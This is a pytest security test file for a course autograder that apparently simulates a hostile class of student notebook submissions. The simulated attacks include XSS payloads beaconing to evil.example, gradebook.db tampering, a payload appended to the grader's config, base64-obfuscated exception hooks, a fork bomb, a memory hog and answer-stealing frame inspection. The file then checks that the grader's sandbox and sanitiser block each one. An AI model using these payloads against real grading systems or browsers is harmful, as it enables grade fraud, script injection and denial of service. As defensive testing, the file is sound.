"""The hostile class: students who attack the grader, beside honest ones, graded by aerophoto-course.

Every attack of issue 11, and of the issue "Grading holes a hostile class still finds" (the second half of
:func:`attacks`, :data:`EDITS`, :data:`RAW` and the Moodle folders of :func:`_moodle_claims`), is a submission of
chapter 00 (one task, 3 points).  The class is graded as an instructor grades one on a 2-core machine, two
submissions at a time (``autograde --jobs 2``: a fork bomb, a memory hog or an endless loop runs beside another
student's notebook).  Asserted:

* every honest student gets the right grade; every attack scores what its real answers deserve (the trusted
  check, in this process, for the roster's variant) and carries its flag;
* nothing outside the sandbox changes: checksums of the course folder before/after, apart from what the
  instructor's process writes (gradebook.db, autograded/, trusted/, the log), and the gradebook holds exactly
  the trusted scores;
* no process started by student code is left over (each carries a marker in its command line).
"""

from __future__ import annotations

import base64
import copy
import hashlib
import json
import os
import sqlite3
import time
import uuid
from pathlib import Path

import nbformat
import pytest

from aerophoto import course, nbtools
from aerophoto.course.limits import Limits
from aerophoto.course.versions import strip_solutions
from conftest import NOTEBOOKS

pytestmark = pytest.mark.slow

A = "00_start_here"
#: parallel grading jobs (the module's docstring); each job's sandbox runs as a uid of its own (bwrap.sandbox_uid)
JOBS = 2
TIMEOUT = 10  # per cell: the setup cell needs a few seconds on a loaded machine
MARK = f"aerophoto-hostile-{uuid.uuid4().hex[:12]}"
PWNED = Path("/tmp") / f"{MARK}-pwned"


def own(sid: str, variant_expr: str = "v") -> str:
    """Honest working for the variant ``variant_expr`` (formulas of guide §1, §5), unique per student."""
    w = variant_expr
    return (f"me = {sid!r}\nimport math\nH_m = {w}.f_mm / 1000 * {w}.m\n"
            f"on_mm = {w}.f_mm * math.tan(math.radians({w}.alpha_deg))\n"
            f"oc_mm = -{w}.f_mm * math.tan(math.radians({w}.alpha_deg) / 2)\n")


WRONG = "H_m = 1.0\non_mm = 2.0\noc_mm = 3.0\n"
HOOKS = ("ip = get_ipython()\nip.set_custom_exc((Exception,), lambda *a, **k: None)\n"
         "def _clear(result):\n    result.error_in_exec = None\n    result.error_before_exec = None\n"
         "ip.events.register('post_run_cell', _clear)\n")


XSS_OUTPUTS = (
    "from IPython.display import HTML, Javascript, Markdown, display\n"
    "display(HTML('<img src=x onerror=\"window.__pwned=1;alert(1)\"><a href=\"javascript:window.__pwned=2\">a</a>'\n"
    "             '<script>window.__pwned=3;alert(3)</script><iframe src=\"http://evil.example/f\"></iframe>'\n"
    "             '<img src=\"http://evil.example/beacon.png\"><form action=\"http://evil.example/\"><input name=q></form>'\n"
    "             '<svg onload=\"alert(4)\"></svg><style>body{background:url(http://evil.example/css)}</style>'))\n"
    "display(Javascript('window.__pwned=5; alert(5)'))\n"
    "display(Markdown('[m](javascript:alert(6)) <img src=y onerror=alert(7)>'))\n"
    "display({'image/svg+xml': '<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(8)\"/>',\n"
    "         'text/plain': 'svg'}, raw=True)\n"
)
XSS_MARKDOWN = ("My notes <script>window.__pwned=11;alert(11)</script>\n\n"
                "<img src=x onerror=\"window.__pwned=12;alert(12)\"> [click](javascript:window.__pwned=13) "
                "<a href=\"javascript:alert(14)\">here</a> <img src=\"http://evil.example/md.png\">\n\n"
                "<form action=\"http://evil.example/\"><input name=q><button>go</button></form> "
                "$\\href{javascript:alert(15)}{x}$\n")
FRAME_READER = (
    "import sys\n"
    "class F(float):\n"
    "    def __float__(self):\n"
    "        f = sys._getframe(1)\n"
    "        while f is not None and not ('task' in f.f_locals and 'variant' in f.f_locals):\n"
    "            f = f.f_back\n"
    "        if f is None or f.f_locals['task'] is None:\n"
    "            return 0.0\n"
    "        return float(f.f_locals['task'].answers(f.f_locals['variant'])[self.n])\n"
    "H_m, on_mm, oc_mm = F(0), F(0), F(0)\n"
    "H_m.n, on_mm.n, oc_mm.n = 'H_m', 'on_mm', 'oc_mm'\n"
)


def _add_markdown(nb):
    nbtools.insert_after(nb, "task-00-1-answer", nbformat.v4.new_markdown_cell(XSS_MARKDOWN, id="my-notes"))


def _grade_false(nb):
    nbtools.find_cell(nb, "task-00-1-check")[1].metadata["nbgrader"]["grade"] = False


def _copied_check(nb):
    i, check = nbtools.find_cell(nb, "task-00-1-check")
    pasted = copy.deepcopy(check)
    pasted["id"] = "pasted-1"
    del check.metadata["nbgrader"]
    nb.cells.insert(i + 1, pasted)


def _slow(nb):
    for k in range(12):  # each under the per-cell limit: only the notebook's own limit stops them
        nbtools.insert_after(nb, "task-00-1-answer", nbtools.code("import time\ntime.sleep(4)\n", id=f"sleep-{k}"))


EDITS = {"19-0540": _add_markdown, "19-0551": _grade_false, "19-0552": _copied_check, "19-0546": _slow}
NOTEBOOK_S = 40
RAW = {  # student id → the bytes of a malformed notebook, and the expected status (not given to nbgrader)
    "19-0500": b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",   # sorts first: the import must go on
    "19-0545": bytes(range(256)) * 64,
}


def attacks(course_root: Path) -> dict:
    """student id → (answer cell, extra cell after it or None, setup-cell prefix or None, score, flag codes)."""
    root = str(course_root)
    victim = f"{root}/submitted/19-0501/{A}/{A}.ipynb"
    obfuscated = base64.b64encode(HOOKS.encode()).decode()
    payload = f"\nimport pathlib; pathlib.Path({str(PWNED)!r}).touch()\n"
    return {
        # honest
        "19-0501": (own("19-0501"), None, None, 3.0, set()),
        "19-0502": (own("19-0502").replace("H_m = v.f_mm / 1000 * v.m", "H_m = v.f_mm * v.m"), None, None, 0.0, set()),
        "19-0503": (f"me = '19-0503'\nH_m = v.f_mm / 1000 * v.m\non_mm = ...\noc_mm = ...\n", None, None, 0.0, set()),
        # the course folder from inside
        "19-0510": (own("19-0510") + f"import sqlite3\ncon = sqlite3.connect({root + '/gradebook.db'!r})\n"
                    "con.execute('update grade set auto_score = 0')\ncon.commit()\n", None, None, 3.0,
                    {"system_access", "answer_error"}),
        "19-0511": (WRONG + f"open({victim!r}, 'w').write('{{}}')\n", None, None, 0.0,
                    {"system_access", "answer_error"}),
        "19-0512": (own("19-0512") + f"open({root + '/nbgrader_config.py'!r}, 'a').write({payload!r})\n", None,
                    None, 3.0, {"system_access", "answer_error"}),
        "19-0513": (WRONG + "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
                    f"'import time; time.sleep(300)', {MARK!r}], start_new_session=True)\n", None, None, 0.0,
                    {"system_access"}),
        # making failed checks look passed
        "19-0514": (WRONG + HOOKS, None, None, 0.0, {"exception_hooks", "tampered"}),
        "19-0515": (WRONG + "import importlib\nc = importlib.import_module('aerophoto.' + 'checks')\n"
                    "c.check_task = lambda *a, **k: print('✓ Task 00.1 passed')\n", None, None, 0.0,
                    {"patched_checks", "no_answer_record", "tampered"}),
        # the check cell shows the trusted scorer's verdict (issue 27), which check_value is no part of: the patch
        # no longer makes the screen say "passed", so there is nothing to call tampered — only the attempt
        "19-0516": (WRONG + "from aerophoto import checks\nchecks.check_value = lambda *a, **k: True\n", None, None,
                    0.0, {"patched_checks"}),
        "19-0528": (WRONG + f"import base64\nexec(base64.b64decode({obfuscated!r}).decode())\n", None, None, 0.0,
                    {"dynamic_code", "exception_hooks", "tampered"}),
        # another variant
        "19-0517": (own("19-0517"), None, 'import os\nos.environ["AEROPHOTO_RECORD_BOOK"] = "19-0500"\n', 0.0,
                    {"variant_changed", "variant_mismatch"}),
        "19-0518": ("from aerophoto.variants import variant_for_index\nglobals().update(v=variant_for_index(0))\n"
                    "import aerophoto\naerophoto.setup(quiet=True)\n" + own("19-0518"), None, None, 0.0,
                    {"variant_changed", "variant_mismatch"}),
        # solutions and answers from elsewhere
        "19-0519": (WRONG + f"exec(open({root + '/source/' + A + '/' + A + '.ipynb'!r}).read())\n", None, None, 0.0,
                    {"dynamic_code", "system_access", "answer_error"}),
        "19-0520": ("from aerophoto import tasks\n_r = tasks.answers('task-00-1', v)\n"
                    "H_m, on_mm, oc_mm = _r['H_m'], _r['on_mm'], _r['oc_mm']\n", None, None, 3.0,
                    {"uses_package_answers"}),
        "19-0521": (own("19-0521 and friend"), None, None, 3.0, {"same_code_as"}),
        "19-0522": (own("19-0521 and friend"), None, None, 3.0, {"same_code_as"}),
        # resources
        "19-0523": (own("19-0523") + "while True:\n    pass\n", None, None, 3.0, {"answer_error"}),
        "19-0524": (own("19-0524"), "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n"
                    "    pass\n", None, 3.0, {"kernel_died"}),
        "19-0525": (own("19-0525"), "hoard = []\nwhile True:\n    hoard.append(bytearray(10**8))\n", None, 3.0,
                    {"cell_error"}),
        "19-0526": (own("19-0526"), "import os, sys\ntry:\n    while True:\n        if os.fork() == 0:\n"
                    f"            os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(300)', "
                    f"{MARK!r}])\nexcept OSError:\n    pass\n", None, 3.0, {"system_access"}),
        "19-0527": (own("19-0527"), "from IPython.display import HTML, display\n"
                    "display(HTML('<b>hi</b><script>alert(\"xss\")</script>'))\n"
                    "for i in range(100000):\n    print('z' * 100)\n", None, 3.0, {"output_truncated"}),
        "19-0529": (own("19-0529"), "import os\nos._exit(3)\n", None, 3.0, {"kernel_died", "system_access"}),
        # --- the issue "Grading holes a hostile class still finds" -----------------------------------------
        # 1. scripts for the instructor's browser: outputs of every kind (and a markdown cell, EDITS)
        "19-0540": (own("19-0540"), XSS_OUTPUTS, None, 3.0, set()),
        # 2. a reading of the values or flags that raises: 0 and a flag, never nbgrader's in-kernel 3
        "19-0541": (WRONG.replace("H_m = 1.0", "H_m = {(1, 2): 3.0}") + HOOKS, None, None, 0.0,
                    {"unreadable_record", "exception_hooks"}),
        "19-0542": (WRONG + HOOKS + "import json\n_dumps = json.dumps\n_forged = {'task': 'task-00-1', "
                    "'variant': None, 'values': [1, 2], 'evidence': {'patched': 5}}\n"
                    "json.dumps = lambda o, **k: _dumps(_forged if isinstance(o, dict) and 'evidence' in o else o, "
                    "**k)\n", None, None, 0.0, {"unreadable_record", "patched_checks", "exception_hooks"}),
        # 4. one notebook never stops the class: an expression nested 3,000 deep; a notebook past its time
        "19-0543": (own("19-0543"), "x = " + "-" * 3000 + "1\n", None, 3.0, {"code_unreadable"}),
        "19-0546": (own("19-0546"), None, None, 0.0, {"notebook_time_limit", "no_answer_record"}),
        # 6. the output cap holds for answer records too
        "19-0547": (own("19-0547"), "from IPython.display import display\nfor _ in range(4):\n    display("
                    "{'application/vnd.aerophoto.answers+json': {'task': 'x', 'pad': 'y' * 3_000_000}}, raw=True)\n",
                    None, 3.0, {"output_truncated"}),
        # 7. the package's answers through an alias, in an extra cell, from a float subclass reading the check's frame
        "19-0548": ("import aerophoto\n_a = aerophoto\n_r = _a.tasks.answers('task-00-1', v)\n"
                    "H_m, on_mm, oc_mm = _r['H_m'], _r['on_mm'], _r['oc_mm']\n", None, None, 3.0,
                    {"uses_package_answers"}),
        "19-0549": ("H_m = on_mm = oc_mm = 0.0\n", "import aerophoto as ap\n_r = ap.tasks.answers('task-00-1', v)\n"
                    "H_m, on_mm, oc_mm = _r['H_m'], _r['on_mm'], _r['oc_mm']\n", None, 3.0, {"uses_package_answers"}),
        "19-0550": (FRAME_READER, None, None, 3.0, {"uses_package_answers", "tampered"}),
        # 8. honest slips: the check cell marked grade: false; the check cell copied below itself (EDITS)
        "19-0551": (own("19-0551"), None, None, 3.0, {"test_cell_edited"}),
        "19-0552": (own("19-0552"), None, None, 3.0, {"test_cell_edited"}),
    }


ORDINARY = {"answer_error", "cell_error", "kernel_died", "output_truncated", "same_code_as"}
# flags that an attack may carry besides its own (e.g. an attack raising in its answer cell)


def _course_files(root: Path) -> dict:
    """sha256 of every file of the course folder the grader must not let student code change."""
    mine = {"gradebook.db", "aerophoto-course.log", ".aerophoto-course.lock"}
    out = {}
    for p in sorted(root.rglob("*")):
        rel = p.relative_to(root)
        if p.is_file() and rel.parts[0] not in ("autograded", "trusted", "feedback") and rel.name not in mine:
            out[rel.as_posix()] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def _procs_with(marker: str) -> list[str]:
    found = []
    for p in Path("/proc").iterdir():
        if p.name.isdigit():
            try:
                if marker.encode() in (p / "cmdline").read_bytes():
                    found.append(p.name)
            except OSError:
                pass
    return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    top = tmp_path_factory.mktemp("hostile")
    book = top / "notebooks"
    book.mkdir()
    nbtools.write(strip_solutions(nbtools.read(NOTEBOOKS / f"{A}.ipynb"))[0], book / f"{A}.ipynb")
    log: list[str] = []
    c = course.Course(top / "course", book, timeout=TIMEOUT, out=log.append,
                      limits=Limits(memory_mb=1024, nproc=64, output_mb=1.0, message_mb=8, cpu_s=120,
                                    notebook_s=NOTEBOOK_S))
    assert c.generate() == {A: True}
    release = nbformat.read(str(c.path("release", A)), as_version=4)
    plan = attacks(c.root)
    export = top / "export"
    export.mkdir()
    for sid, (answer, extra, setup_prefix, _, _) in plan.items():
        nb = copy.deepcopy(release)
        nbtools.find_cell(nb, "task-00-1-answer")[1].source = answer
        if extra:
            nbtools.insert_after(nb, "task-00-1-answer", nbtools.code(extra, id="my-extra"))
        if setup_prefix:
            setup = nbtools.find_cell(nb, "setup")[1]
            setup.source = setup_prefix + setup.source
        if sid in EDITS:
            EDITS[sid](nb)
        nbformat.write(nb, str(export / f"{sid}_{A}.ipynb"))
    for sid, data in RAW.items():
        (export / f"{sid}_{A}.ipynb").write_bytes(data)
    _moodle_claims(export, release)
    scan = c.import_submissions(export)
    before = _course_files(c.root)
    t0 = time.perf_counter()
    results = c.autograde(jobs=JOBS)
    seconds = time.perf_counter() - t0
    time.sleep(0.5)
    return c, plan, results, before, seconds, scan, log


VICTIM = "19-0530"


def _moodle_claims(export: Path, release) -> None:
    """3: the victim's own Moodle folder holds her correct notebook; another participant's folder holds a wrong
    one named for her number, saved later (the newest would have won)."""
    for folder, answer, mtime in (("Anna Victim_9001_assignsubmission_file_", own(VICTIM), 1_700_000_000),
                                  ("Boris Attacker_9002_assignsubmission_file_", WRONG, 1_700_000_600)):
        nb = copy.deepcopy(release)
        nbtools.find_cell(nb, "task-00-1-answer")[1].source = answer
        path = export / folder / f"{VICTIM}_{A}.ipynb"
        path.parent.mkdir()
        nbformat.write(nb, str(path))
        os.utime(path, (mtime, mtime))


def test_every_submission_was_graded(hostile):
    c, plan, results, _, seconds = hostile[:5]
    assert sorted(r.student for r in results) == sorted([*plan, *RAW])
    assert {r.status for r in results if r.student in plan} == {"graded"}, \
        [(r.student, r.status, r.error) for r in results]
    # 4. a malformed notebook (JSON nested 100,000 deep, binary) is reported corrupt; the class is graded
    for sid in RAW:
        r = next(r for r in results if r.student == sid)
        assert r.status == "corrupt" and r.score == 0 and {f.code for f in r.flags} == {"corrupt"}, r
    log = hostile[6]
    assert any(f"in {JOBS} parallel jobs" in line for line in log), log[:5]
    print(f"hostile class: {len(results)} submissions in {seconds:.0f} s")


def test_honest_students_get_the_right_grade(hostile):
    c, plan, results, _, _ = hostile[:5]
    got = {r.student: (r.score, {f.code for f in r.flags}) for r in results}
    for sid in ("19-0501", "19-0502", "19-0503"):
        assert got[sid] == (plan[sid][3], set()), sid


@pytest.mark.parametrize("sid", sorted(attacks(Path("/course"))))
def test_each_attack_scores_what_its_answers_deserve_and_is_flagged(hostile, sid):
    c, plan, results, _, _ = hostile[:5]
    r = next(r for r in results if r.student == sid)
    _, _, _, score, expected = plan[sid]
    got = {f.code for f in r.flags}
    assert r.score == score, (sid, r.score, [str(f) for f in r.flags])
    assert expected <= got, (sid, sorted(got), [str(f) for f in r.flags])
    assert got - expected <= ORDINARY | {"system_access", "dynamic_code"}, (sid, sorted(got - expected))


def test_nothing_outside_the_sandbox_changed(hostile):
    c, _, _, before, _ = hostile[:5]
    assert _course_files(c.root) == before
    assert not PWNED.exists()
    # nbgrader_config.py is read by every later command: still the template
    assert "pathlib" not in (c.root / "nbgrader_config.py").read_text(encoding="utf-8")


def test_the_gradebook_holds_exactly_the_trusted_scores(hostile):
    c, plan, _, _, _ = hostile[:5]
    con = sqlite3.connect(c.root / "gradebook.db")
    try:
        rows = con.execute(
            "select s.student_id, g.auto_score, g.manual_score from grade g "
            "join submitted_notebook n on g.notebook_id = n.id join submitted_assignment s on n.assignment_id = s.id"
        ).fetchall()
    finally:
        con.close()
    assert sorted(sid for sid, _, _ in rows) == sorted(plan)
    for sid, auto, manual in rows:
        report = json.loads(c.report_path(A, sid).read_text(encoding="utf-8"))
        assert manual is None and auto == report["verdicts"][0]["score"] == plan[sid][3], sid


def test_no_process_of_a_student_survives_grading(hostile):
    deadline = time.monotonic() + 5
    while _procs_with(MARK) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert _procs_with(MARK) == []


def test_a_killed_kernel_is_flagged_with_its_reason_and_the_rest_is_graded(hostile):
    c, _, results, _, _ = hostile[:5]
    flags = {r.student: [str(f) for f in r.flags] for r in results}
    assert any("did not stop when interrupted" in f for f in flags["19-0524"])
    assert any("exited (status 3)" in f for f in flags["19-0529"])
    assert any("MemoryError" in f for f in flags["19-0525"])


def test_feedback_shows_the_trusted_score_and_no_student_script(hostile):
    c = hostile[0]
    made = c.feedback(students=["19-0514", "19-0527"])
    html = {p.parent.parent.name: p.read_text(encoding="utf-8") for p in made}
    assert "<script>alert" not in html["19-0527"] and "<b>hi</b>" in html["19-0527"]
    assert "0.0 / 3.0" in html["19-0514"] or "Score: 0.0" in html["19-0514"]


def test_check_does_not_report_a_pass_it_did_not_verify(hostile, capsys):
    c = hostile[0]
    assert course.main(["check", str(c.path("submitted", A, "19-0514")), "--record-book", "19-0514",
                        "--timeout", str(TIMEOUT)]) == 1
    out = capsys.readouterr().out
    assert "✗ task-00-1" in out and "tampered" in out


# ------------------------------------------------------------------ the issue "Grading holes a hostile class still finds"

def _live(html: str) -> list[str]:
    """What a browser would run or load of a page, read by an HTML parser (text and shown code are not counted):
    scripts carrying the student's payload, event handlers, javascript:/external URLs, forms, frames, SVG."""
    from html.parser import HTMLParser

    found: list[str] = []

    class P(HTMLParser):
        script = False

        def handle_starttag(self, tag, attrs):
            self.script = tag == "script"
            if tag in ("form", "iframe", "svg", "object", "embed", "frame", "base", "meta"):  # (the formgrader's
                # own score fields and buttons are inputs and buttons outside any form)
                if not (tag == "meta" and all(k in ("charset", "name", "content", "http-equiv") for k, _ in attrs)):
                    found.append(f"<{tag}>")
            for k, val in attrs:
                val = (val or "").strip().lower()
                if k.startswith("on") and "toggle_name" not in val:
                    found.append(f"<{tag} {k}>")
                if k in ("href", "src", "action", "formaction", "data", "xlink:href") and (
                        val.startswith(("javascript:", "vbscript:")) or "evil.example" in val):
                    found.append(f"<{tag} {k}={val[:40]}>")

        handle_startendtag = handle_starttag

        def handle_data(self, data):
            if self.script and ("__pwned" in data or "alert(" in data):
                found.append("a student's script")

        def handle_endtag(self, tag):
            self.script = False

    P(convert_charrefs=True).feed(html)
    return found


def _html_fields(nb):
    """Every HTML-bearing text of a notebook, rendered as nbgrader renders it (markdown cells and outputs)."""
    from aerophoto.course.sanitize import _md2html

    for cell in nb.cells:
        if cell.cell_type == "markdown":
            yield cell.get("id"), _md2html(cell.source)
        for o in cell.get("outputs", []):
            data = o.get("data", {})
            for mime in data:
                if mime not in ("text/plain", "image/png", "image/jpeg", "image/gif",
                                "application/vnd.aerophoto.answers+json"):
                    yield cell.get("id"), _md2html(data[mime]) if mime == "text/markdown" else str(data[mime])


def test_what_the_formgrader_shows_is_cleaned(hostile):
    """1. The autograded notebooks (what the formgrader renders) hold no script, handler, javascript: URL,
    external resource or form — in outputs or in markdown — and keep the answer records the grader reads."""
    from aerophoto.course.sanitize import is_clean

    c, plan = hostile[0], hostile[1]
    for sid in plan:
        nb = nbformat.read(str(c.path("autograded", A, sid)), as_version=4)
        for cid, html in _html_fields(nb):
            assert is_clean(html) and _live(html) == [], (sid, cid, _live(html), html[:300])
        kinds = {m for cell in nb.cells for o in cell.get("outputs", []) for m in o.get("data", {})}
        assert not kinds & {"application/javascript", "image/svg+xml", "text/latex"}, (sid, kinds)
    nb = nbformat.read(str(c.path("autograded", A, "19-0540")), as_version=4)
    notes = nbtools.find_cell(nb, "my-notes")[1].source
    assert "My notes" in notes and "here" in notes  # the text stays, the active parts are gone
    check = nbtools.find_cell(nb, "task-00-1-check")[1]
    assert any("application/vnd.aerophoto.answers+json" in o.get("data", {}) for o in check.outputs)


def _formgrader_html(c, sid: str, config_file: Path | None = None) -> str:
    """The page nbgrader's formgrader serves for an autograded notebook (its exporter and template), rendered with
    the course folder's config (or ``config_file``, the hub's instructor config)."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config.loader import PyFileConfigLoader

    cfg = PyFileConfigLoader((config_file or c.root / "nbgrader_config.py").name,
                             str((config_file or c.root / "nbgrader_config.py").parent)).load_config()
    cfg.HTMLExporter.template_name = "formgrade"
    cfg.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": A, "notebook_id": A, "submission_id": "x", "index": 0, "total": 1,
                 "base_url": "", "student": sid, "last_name": None, "first_name": None,
                 "notebook_path": f"/autograded/{sid}/{A}/{A}.ipynb"}
    html, _ = HTMLExporter(config=cfg).from_filename(str(c.path("autograded", A, sid)), resources=resources)
    return html


HUB_INSTRUCTOR_CONFIG = Path(__file__).resolve().parents[2] / "deploy/jupyterhub/single-user/instructor/nbgrader_config.py"


@pytest.mark.parametrize("which", ["course folder", "hub instructor"])
def test_formgrader_and_feedback_html_carry_no_student_script(hostile, which):
    c = hostile[0]
    cfg = None if which == "course folder" else HUB_INSTRUCTOR_CONFIG
    for sid in ("19-0540", "19-0527"):
        html = _formgrader_html(c, sid, cfg)
        assert "My notes" in html or sid != "19-0540"
        assert _live(html) == [], (sid, _live(html))
    (fb,) = c.feedback(students=["19-0540"])
    text = fb.read_text(encoding="utf-8")
    assert "My notes" in text and _live(text) == [], _live(text)


def test_a_number_claimed_from_two_folders_is_kept_aside_and_flagged(hostile):
    """3. Two Moodle participants' folders hold a file named for one record book: neither is taken."""
    c, scan, log = hostile[0], hostile[5], hostile[6]
    assert (VICTIM, A) in scan.conflicts and (VICTIM, A) not in scan.found
    assert len(scan.conflicts[(VICTIM, A)]) == 2
    assert not c.path("submitted", A, VICTIM).exists()
    assert any("CLAIMED TWICE" in line and VICTIM in line for line in log)
    record = c.conflict(VICTIM, A)
    assert sorted(f["folder"] for f in record["files"]) == ["Anna Victim_9001_assignsubmission_file_",
                                                             "Boris Attacker_9002_assignsubmission_file_"]
    assert all((c.root / "conflicts" / VICTIM / A / f["copy"]).is_file() for f in record["files"])
    df = c.gradebook()
    row = df[df.student_id == VICTIM].iloc[0]
    assert row["score"] == 0 and "claimed_twice" in row["flags"]
    # 4. the malformed notebooks did not stop the import: every student of the plan was imported
    assert all(c.path("submitted", A, sid).exists() for sid in attacks(c.root))


def test_gradebook_db_grades_csv_and_feedback_agree(hostile):
    """2. gradebook.db holds the trusted score (never nbgrader's in-kernel one), and grades.csv and feedback say
    the same, for the submissions whose reading raised."""
    c = hostile[0]
    df = c.gradebook()
    for sid in ("19-0541", "19-0542", "19-0514"):
        row = df[df.student_id == sid].iloc[0]
        report = json.loads(c.report_path(A, sid).read_text(encoding="utf-8"))
        assert row["score"] == report["verdicts"][0]["score"] == 0.0, sid
    (fb,) = c.feedback(students=["19-0541"])
    assert "0.0 / 3.0" in fb.read_text(encoding="utf-8") or "Score: 0.0" in fb.read_text(encoding="utf-8")


def test_the_output_cap_holds_for_answer_records(hostile):
    """6. Answer records are capped too: the notebook that emitted 12 MB of them is kept under 3 MB."""
    c = hostile[0]
    size = c.path("autograded", A, "19-0547").stat().st_size
    assert size < 3 * 1024 * 1024, size


def test_every_nbgrader_config_the_project_ships_runs_student_code_in_the_sandbox(hostile, tmp_path):
    """5. nbgrader's own autograde with the course folder's config (what the formgrader's Autograde button
    runs), on a copy of the course: the submission that writes into the course folder runs sandboxed."""
    import shutil
    import subprocess
    import sys

    from aerophoto.course.common import course_config
    from aerophoto.course.nbconfig import is_secure_config
    from traitlets.config.loader import PyFileConfigLoader

    c = hostile[0]
    assert is_secure_config(course_config(c.root))
    assert is_secure_config(PyFileConfigLoader(HUB_INSTRUCTOR_CONFIG.name, str(HUB_INSTRUCTOR_CONFIG.parent)).load_config())
    copy_root = tmp_path / "course"
    copy_root.mkdir()
    for part in ("nbgrader_config.py", "gradebook.db", "source", "release", f"submitted/19-0512"):
        src = c.root / part
        (shutil.copytree if src.is_dir() else shutil.copy2)(src, copy_root / part)
    before = (copy_root / "nbgrader_config.py").read_text(encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "nbgrader", "autograde", A, "--student", "19-0512", "--force",
                           f"--CourseDirectory.root={copy_root}"], cwd=copy_root, capture_output=True, text=True,
                          timeout=600, env={**os.environ, "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"})
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert (copy_root / "nbgrader_config.py").read_text(encoding="utf-8") == before  # the payload never reached it
    assert "pathlib" not in (c.root / "nbgrader_config.py").read_text(encoding="utf-8")
    assert not PWNED.exists()
    graded = nbformat.read(str(copy_root / "autograded" / "19-0512" / A / f"{A}.ipynb"), as_version=4)
    answer = nbtools.find_cell(graded, "task-00-1-answer")[1]
    assert any(o.get("ename") in ("FileNotFoundError", "PermissionError", "OSError") for o in answer.outputs
               if o.get("output_type") == "error"), answer.outputs


@pytest.mark.browser
def test_no_student_script_runs_in_the_instructors_browser(hostile, tmp_path):
    """1. In chromium: the formgrader's page and the feedback of the XSS submissions — no dialog, no request to a
    host other than loopback, no script of the student's ran (``window.__pwned`` unset)."""
    from playwright.sync_api import sync_playwright

    c = hostile[0]
    pages = {f"formgrader-{sid}.html": _formgrader_html(c, sid) for sid in ("19-0540", "19-0527")}
    (fb,) = c.feedback(students=["19-0540"])
    pages["feedback-19-0540.html"] = fb.read_text(encoding="utf-8")
    for name, html in pages.items():
        (tmp_path / name).write_text(html, encoding="utf-8")
    dialogs, remote = [], []

    def route(r):
        url = r.request.url
        host = url.split("/")[2] if "://" in url else ""
        if url.startswith(("file:", "data:", "about:")) or host.split(":")[0] in ("127.0.0.1", "localhost", "[::1]"):
            return r.continue_()
        remote.append(url)
        return r.abort()

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        try:
            for name in pages:
                page = browser.new_page()
                page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
                page.route("**/*", route)
                page.goto((tmp_path / name).as_uri(), wait_until="load")
                page.wait_for_timeout(500)
                for el in page.query_selector_all("a, img, button, input"):  # what an instructor might click
                    try:
                        el.click(timeout=300, no_wait_after=True)
                    except Exception:
                        pass
                page.wait_for_timeout(300)
                assert page.evaluate("typeof window.__pwned") == "undefined", name
                # no handler or form from the student (the formgrader's own two name toggles carry onclick)
                assert page.evaluate("document.querySelectorAll('.cell [onerror], .cell [onload], .cell [onclick], "
                                     "form, iframe, a[href^=\"javascript:\" i]').length") == 0, name
                page.close()
        finally:
            browser.close()
    assert dialogs == []
    # the only remote requests are the page templates' own scripts (MathJax, jQuery, require.js from their CDN)
    assert [u for u in remote if not any(cdn in u for cdn in ("cdnjs.cloudflare.com", "cdn.jsdelivr.net",
                                                              "unpkg.com"))] == [], remote
